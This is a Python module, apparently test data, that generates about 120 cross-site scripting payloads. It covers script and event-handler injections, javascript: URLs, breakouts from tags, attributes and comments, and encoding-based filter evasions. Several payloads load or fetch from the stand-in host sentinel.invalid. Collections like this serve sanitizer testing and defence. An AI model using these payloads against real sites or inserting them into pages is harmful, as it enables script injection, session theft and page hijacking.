"""Texts that would run as script, fetch something or ask something, if a page took them as markup.

Of forms that the trade of web security knows (from memory): elements that run, attributes
that run, addresses that run, ways out of a script, a style, a comment, an attribute or a
template, and other spellings of the same letters.
"""

from __future__ import annotations

RUN = "ran()"
FETCH = "fetch('http://sentinel.invalid/f')"
ASK = "alert(1)"

_FORMS = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</SCRIPT ><sCrIpT>{}</sCrIpT>",
    "<script src=http://sentinel.invalid/s.js></script>{}",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "<img src=http://sentinel.invalid/i.png onload={}>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=a onload={}>#a"/></svg>',
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}" id=go>go</a>',
    '<form action="javascript:{}"><button>go</button></form>',
    '<meta http-equiv=refresh content="0;url=http://sentinel.invalid/?{}">',
    "<base href=http://sentinel.invalid/>{}",
    "<link rel=stylesheet href=http://sentinel.invalid/s.css onload={}>",
    "<style>@import 'http://sentinel.invalid/s.css';</style>{}",
    "<style>*{{background:url(http://sentinel.invalid/b)}}</style>{}",
    '<p style="background:url(http://sentinel.invalid/p)" onclick={}>',
    "<marquee onstart={}>",
    "<template><script>{}</script></template>",
    "<math><mtext><script>{}</script></mtext></math>",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</option></select><script>{}</script>",
    '" onmouseover="{}',
    "' autofocus onfocus='{}",
    "` onmouseover=`{}",
    "javascript:{}",
    "{{{{ {} }}}}",
    "{{% for x in (1,) %}}{}{{% endfor %}}",
    "${{{}}}",
    "';{};//",
    '";{};//',
    "\\';{};//",
    "\u2028{}\u2029",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<scr\0ipt>{}</scr\0ipt>",
    "<<script>{}//<</script>",
    "<img\tsrc=x\nonerror={}>",
    "\u202e>tpircs<{}",
    "<!--[if true]><script>{}</script><![endif]-->",
    "</script><svg onload={}>//",
    "<script>/*",
    "*/{}</script>",
    "<plaintext>{}",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
]  # fmt: skip


def payloads() -> list[str]:
    """At least a hundred texts, each another one."""
    made = [form.format(act) for form in _FORMS for act in (RUN, FETCH, ASK)]
    # every form first, then the same forms with another act
    ordered = [made[3 * n + act] for act in range(3) for n in range(len(_FORMS))]
    return list(dict.fromkeys(ordered))[:120]
